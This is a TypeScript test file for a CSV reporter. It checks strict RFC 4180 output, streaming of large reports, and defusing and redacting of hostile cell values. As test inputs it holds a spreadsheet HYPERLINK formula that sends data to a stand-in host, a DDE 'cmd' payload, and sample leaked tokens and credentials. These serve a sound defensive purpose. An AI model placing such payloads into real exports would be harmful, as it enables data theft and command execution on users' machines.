import { describe, expect, it } from 'vitest';
import { PIECE } from '../../src/reporters/chunks.js';
import { frameworksText } from '../../src/reporters/common.js';
import { CSV_COLUMNS, csvReporter } from '../../src/reporters/csv.js';
import { reporters } from '../../src/reporters/index.js';
import type { Finding, Report } from '../../src/report/types.js';
import { demoReport, multiplyReport } from '../helpers/reports.js';

/**
 * A strict RFC 4180 reader (no CSV parser is a dependency): every record ends in CRLF, a field is
 * quoted or holds no quote, "" is a quote inside quotes, nothing but a comma or CRLF follows a
 * closing quote, and every record has as many fields as the header. Anything else throws.
 */
function parseStrict(text: string): string[][] {
  const rows: string[][] = [];
  let i = 0;
  while (i < text.length) {
    const row: string[] = [];
    for (;;) {
      let field = '';
      if (text[i] === '"') {
        i++;
        for (;;) {
          const q = text.indexOf('"', i);
          if (q < 0) throw new Error(`unterminated quoted field from ${i}`);
          field += text.slice(i, q);
          if (text[q + 1] === '"') {
            field += '"';
            i = q + 2;
          } else {
            i = q + 1;
            break;
          }
        }
      } else {
        const start = i;
        while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
          if (text[i] === '"') throw new Error(`quote in an unquoted field at ${i}`);
          i++;
        }
        field = text.slice(start, i);
      }
      row.push(field);
      if (text[i] === ',') {
        i++;
        continue;
      }
      if (text.startsWith('\r\n', i)) {
        i += 2;
        break;
      }
      throw new Error(`expected a comma or CRLF at ${i}, found ${JSON.stringify(text.slice(i, i + 10))}`);
    }
    if (rows.length > 0 && row.length !== rows[0]!.length) throw new Error(`record ${rows.length} has ${row.length} fields, the header ${rows[0]!.length}`);
    rows.push(row);
  }
  return rows;
}

const records = (report: Report) => {
  const [header, ...rows] = parseStrict(csvReporter.render(report, { color: false }));
  return { header: header!, rows: rows.map((r) => Object.fromEntries(header!.map((k, i) => [k, r[i]!])) as Record<string, string>) };
};

describe('csv reporter', () => {
  it('is a registered format: one row per finding with the stable columns, read back by a strict RFC 4180 reader', async () => {
    expect(reporters.csv).toBe(csvReporter);
    const report = await demoReport();
    const { header, rows } = records(report);
    expect(header).toEqual([
      'policy_id',
      'title',
      'pillar',
      'tool',
      'tool_type',
      'resource',
      'status',
      'severity',
      'gating',
      'message',
      'observed',
      'expected',
      'source',
      'collected_at',
      'declared',
      'controls',
      'waiver_id',
    ]);
    expect(header).toEqual(CSV_COLUMNS);
    expect(rows).toHaveLength(report.findings.length);
    for (const [i, f] of report.findings.entries()) {
      const r = rows[i]!;
      expect(r.policy_id).toBe(f.policy_id);
      expect(r.title).toBe(f.title);
      expect(r.tool).toBe(f.tool);
      expect(r.tool_type).toBe(f.tool_type);
      expect(r.resource).toBe(f.resource ?? '');
      expect(r.status).toBe(f.status);
      expect(r.severity).toBe(f.severity);
      expect(r.gating).toBe(String(f.gating));
      expect(r.collected_at).toBe(f.evidence.collected_at);
      expect(r.declared).toBe(String(f.evidence.method === 'facts-file'));
      expect(r.controls).toBe(frameworksText(f.frameworks));
      expect(r.waiver_id).toBe(f.waiver?.id ?? '');
      expect(r.message!.replace(/^'/, '')).toBe(f.message);
    }
    const sso = rows.find((r) => r.policy_id === 'AR-IDN-001' && r.status === 'fail')!;
    expect(sso.observed).toBe('identity.sso_enforced: false');
    expect(sso.expected).toBe('identity.sso_enforced: true');
    // no file position recorded: where the snapshot came from
    expect(sso.source).toBe('fixtures/demo/facts/jenkins-ci-prod.yaml');
    // recorded: the file and line (or endpoint) of each fact
    const f = report.findings.find((x) => x.policy_id === 'AR-IDN-001')!;
    const sources = [
      { fact: 'identity.sso_enforced', file: 'argocd/argocd-cm.yaml', line: 14, column: 3 },
      { fact: 'identity.mfa_required', endpoint: 'https://api.github.com/orgs/acme' },
    ];
    const read = records({ ...report, findings: [{ ...f, evidence: { ...f.evidence, sources } }] }).rows[0]!;
    expect(read.source).toBe('argocd/argocd-cm.yaml:14:3; https://api.github.com/orgs/acme');
    const waived = rows.find((r) => r.status === 'waived')!;
    expect(waived.waiver_id).toBe('EXC-2026-014');
    expect(rows.some((r) => r.declared === 'true')).toBe(true);
  });

  it('defuses spreadsheet formulas (OWASP CSV injection), quotes what RFC 4180 requires, and redacts', async () => {
    const base = await demoReport();
    const f = base.findings[0]!;
    const hostile: Finding[] = [
      { ...f, message: '=HYPERLINK("http://evil.example/?x="&A1,"click")', resource: "+1+cmd|' /C calc'!A0" },
      { ...f, message: '@SUM(1,2)', title: '-2+3', tool: 'github/a,b' },
      { ...f, message: '\tstarts with a tab', title: 'line one\nline "two"\r\nthree' },
      { ...f, message: 'token ghp_abcdefghijklmnopqrstuvwxyz0123456789 leaked, and https://user:hunter22@git.example/x' },
      { ...f, message: 'a - b = c is fine inside', observed: { n: -1 }, expected: { n: '>= 0' } },
    ];
    const { rows } = records({ ...base, findings: hostile });
    expect(rows[0]!.message).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(rows[0]!.resource).toBe("'+1+cmd|' /C calc'!A0");
    expect(rows[1]!.message).toBe("'@SUM(1,2)");
    expect(rows[1]!.title).toBe("'-2+3");
    expect(rows[1]!.tool).toBe('github/a,b');
    expect(rows[2]!.message).toBe("'\tstarts with a tab");
    expect(rows[2]!.title).toBe('line one\nline "two"\r\nthree');
    expect(rows[3]!.message).not.toContain('ghp_abcdefghijklmnopqrstuvwxyz0123456789');
    expect(rows[3]!.message).not.toContain('hunter22');
    expect(rows[3]!.message).toContain('[REDACTED]');
    expect(rows[4]!.message).toBe('a - b = c is fine inside');
    expect(rows[4]!.observed).toBe('n: -1');
    // no cell of the file starts with a formula character
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('streams a large estate: bounded pieces, each written before the later rows are made', async () => {
    const report = multiplyReport(await demoReport(), 30_000);
    let read = 0;
    const findings = new Proxy(report.findings, {
      get(target, key, receiver) {
        if (typeof key === 'string' && /^\d+$/.test(key)) read = Math.max(read, Number(key) + 1);
        return Reflect.get(target, key, receiver);
      },
    });
    const it = csvReporter.chunks({ ...report, findings }, { color: false })[Symbol.iterator]();
    const first = it.next();
    expect(first.done).toBe(false);
    expect(read).toBeLessThan(report.findings.length / 10);
    let text = first.value as string;
    let longest = text.length;
    let pieces = 1;
    for (let r = it.next(); !r.done; r = it.next()) {
      text += r.value;
      longest = Math.max(longest, r.value.length);
      pieces++;
    }
    expect(read).toBe(report.findings.length);
    expect(longest).toBeLessThan(PIECE + 10_000);
    expect(pieces).toBeGreaterThan(text.length / (PIECE + 10_000));
    const rows = parseStrict(text);
    expect(rows).toHaveLength(report.findings.length + 1);
    expect(new Set(rows.slice(1).map((r) => r[3])).size).toBe(new Set(report.findings.map((f) => f.tool)).size);
  });
});
